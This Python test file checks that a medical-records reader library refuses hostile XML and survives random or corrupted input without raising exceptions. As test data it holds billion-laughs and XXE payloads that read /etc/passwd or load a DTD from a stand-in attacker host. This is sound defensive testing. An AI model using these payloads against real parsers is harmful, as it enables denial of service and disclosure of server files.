"""Robustness of every reader (spec E6): hostile XML is refused quickly, and random or
damaged input — random bytes, real samples with flipped bits or cut short — only ever
yields a ReadResult with typed problems, never an exception."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from caducee.records.model import Problem, ProblemCode, ReaderLimits, ReadResult
from caducee.records.readers import (
    read_attachment,
    read_cda,
    read_hl7v2,
    read_hprim,
    read_plain,
    read_submission_metadata,
    read_xdm,
)
from caducee.records.readers.xds_metadata import SubmissionMetadata
from caducee.records.xmlsafe import parse_xml

if TYPE_CHECKING:
    from tests.records.readers.conftest import Kit

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n'
        % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
        for level in range(1, 10)
    )
    + b"]>\n<ClinicalDocument>&lol9;</ClinicalDocument>"
)
XXE_FILE = (
    b'<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<ClinicalDocument>&xxe;</ClinicalDocument>"
)
XXE_NETWORK = (
    b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><r/>'
)
EXTERNAL_DTD = b'<!DOCTYPE ClinicalDocument SYSTEM "file:///etc/passwd"><ClinicalDocument/>'
HOSTILE_XML = {
    "billion-laughs": BILLION_LAUGHS,
    "xxe-file": XXE_FILE,
    "xxe-parameter-entity": XXE_NETWORK,
    "external-dtd": EXTERNAL_DTD,
    "utf-16-doctype": XXE_FILE.replace(b'"1.0"?>', b'"1.0" encoding="UTF-16"?>', 1)
    .decode()
    .encode("utf-16"),
}

FAST = settings(
    max_examples=60,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.mark.timeout(5)
@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_e6_xml_with_dtd_refused(name: str, kit: type[Kit]) -> None:
    data = HOSTILE_XML[name]
    parsed = parse_xml(data)
    assert isinstance(parsed, Problem)
    assert parsed.code is ProblemCode.FORBIDDEN_DTD
    result = read_cda(data)
    assert result.documents == ()
    assert kit.codes(result) == {ProblemCode.FORBIDDEN_DTD}
    assert read_attachment("doc.xml", "text/xml", data).documents == ()
    metadata = read_submission_metadata(data)
    assert {problem.code for problem in metadata.problems} == {ProblemCode.FORBIDDEN_DTD}


@pytest.mark.timeout(5)
def test_e6_xml_entity_content_never_reaches_a_document(kit: type[Kit]) -> None:
    for data in (XXE_FILE, BILLION_LAUGHS):
        result = read_cda(data)
        assert all(b"root:" not in document.content for document in result.documents)
        assert not any("root:" in problem.message for problem in result.problems)


@pytest.mark.timeout(5)
def test_e6_hostile_cda_inside_hl7(kit: type[Kit]) -> None:
    encoded = base64.b64encode(BILLION_LAUGHS).decode()
    message = f"MSH|^~\\&|A|B|C|D|1||ORU^R01|1|P|2.5\rOBX|1|ED|X^Y^LN||^TEXT^XML^Base64^{encoded}"
    result = read_hl7v2(message.encode())
    assert result.documents == ()
    assert ProblemCode.FORBIDDEN_DTD in kit.codes(result)


def test_e6_xml_size_bound(kit: type[Kit]) -> None:
    limits = ReaderLimits(max_xml_bytes=100)
    result = read_cda(kit.cda(), limits=limits)
    assert kit.codes(result) == {ProblemCode.TOO_LARGE}


@pytest.mark.timeout(5)
def test_e6_xml_deep_nesting_refused(kit: type[Kit]) -> None:
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    result = read_cda(deep)
    assert result.documents == ()
    assert kit.codes(result) <= {ProblemCode.TOO_LARGE, ProblemCode.NOT_WELL_FORMED}


# ---------------------------------------------------------------------------------------------
# Property-based: random and damaged input

Reader = Callable[[bytes], ReadResult]

READERS: dict[str, Reader] = {
    "attachment": lambda data: read_attachment("attachment", None, data),
    "xdm": lambda data: read_xdm(data),
    "cda": lambda data: read_cda(data),
    "hl7v2": lambda data: read_hl7v2(data),
    "hprim": lambda data: read_hprim(data),
    "plain": lambda data: read_plain(data, file_name="x.txt", content_type="text/plain"),
}


def _check_metadata_result(result: SubmissionMetadata) -> None:
    assert isinstance(result, SubmissionMetadata)
    for problem in result.problems:
        assert isinstance(problem, Problem)
        assert isinstance(problem.code, ProblemCode)


@FAST
@given(data=st.binary(max_size=4096))
def test_e6_random_bytes_to_every_reader(data: bytes, kit: type[Kit]) -> None:
    for reader in READERS.values():
        kit.assert_typed(reader(data))
    _check_metadata_result(read_submission_metadata(data))


@FAST
@given(
    prefix=st.sampled_from([b"MSH|^~\\&|", b"PK\x03\x04", b"<?xml version='1.0'?><", b"H|~^\\&|"]),
    data=st.binary(max_size=2048),
)
def test_e6_random_bytes_behind_a_plausible_opening(
    prefix: bytes, data: bytes, kit: type[Kit]
) -> None:
    for reader in READERS.values():
        kit.assert_typed(reader(prefix + data))


@FAST
@given(text=st.text(max_size=2000))
def test_e6_random_text_to_every_reader(text: str, kit: type[Kit]) -> None:
    data = text.encode("utf-8")
    for reader in READERS.values():
        kit.assert_typed(reader(data))
    _check_metadata_result(read_submission_metadata(data))


@st.composite
def damaged(draw: st.DrawFn, original: bytes) -> bytes:
    """The original bytes with a few bits flipped, bytes inserted, and maybe cut short."""
    mutated = bytearray(original)
    for _ in range(draw(st.integers(0, 8))):
        position = draw(st.integers(0, len(mutated) - 1))
        mutated[position] ^= 1 << draw(st.integers(0, 7))
    if draw(st.booleans()):
        position = draw(st.integers(0, len(mutated)))
        mutated[position:position] = draw(st.binary(min_size=1, max_size=8))
    if draw(st.booleans()):
        mutated = mutated[: draw(st.integers(0, len(mutated)))]
    return bytes(mutated)


@pytest.fixture(scope="module")
def samples(sample_bytes: Callable[[str], bytes], kit: type[Kit]) -> dict[str, bytes]:
    return {name: sample_bytes(name) for name in kit.READER_SAMPLES}


@FAST
@given(data=st.data())
def test_e6_damaged_real_samples_to_every_reader(
    data: st.DataObject, samples: dict[str, bytes], kit: type[Kit]
) -> None:
    name = data.draw(st.sampled_from(sorted(samples)), label="sample")
    mutated = data.draw(damaged(samples[name]), label="mutated")
    kit.assert_typed(read_attachment(name.rpartition("/")[2], None, mutated))
    reader = data.draw(st.sampled_from(sorted(READERS)), label="reader")
    kit.assert_typed(READERS[reader](mutated))


@FAST
@given(data=st.data())
def test_e6_damaged_xdm_archives(
    data: st.DataObject, samples: dict[str, bytes], kit: type[Kit]
) -> None:
    name = data.draw(
        st.sampled_from(
            [
                "DirectProject-nhin-d/samplexdm-xd-common.zip",
                "DirectProject-nhin-d/samplexdm-xdmail.zip",
            ]
        )
    )
    result = read_xdm(data.draw(damaged(samples[name])))
    kit.assert_typed(result)
    for document in result.documents:
        assert document.file_name


def test_e6_every_real_sample_reads_without_error(
    samples: dict[str, bytes], kit: type[Kit]
) -> None:
    for name, data in samples.items():
        result = read_attachment(name.rpartition("/")[2], None, data)
        kit.assert_typed(result)
        for problem in result.problems:
            assert "PAT-TROIS" not in problem.message
            assert "DOMINIQUE" not in problem.message
